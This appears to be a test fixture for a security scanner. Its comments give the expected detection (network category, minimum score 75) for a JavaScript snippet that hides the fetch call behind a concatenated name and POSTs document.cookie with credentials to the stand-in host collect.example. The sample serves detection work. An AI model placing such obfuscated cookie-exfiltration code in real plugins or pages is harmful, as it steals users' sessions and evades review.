// expect: category=network min=75 context=plugin,package
// why: fetch is reached through a conditionally chosen global and a concatenated name; cookies go out.
const g = typeof self !== 'undefined' ? self : typeof window !== 'undefined' ? window : globalThis;
const send = g['fe' + 'tch'].bind(g);

send('https://collect.example/c', {
  method: 'POST',
  credentials: 'include',
  body: document.cookie,
});
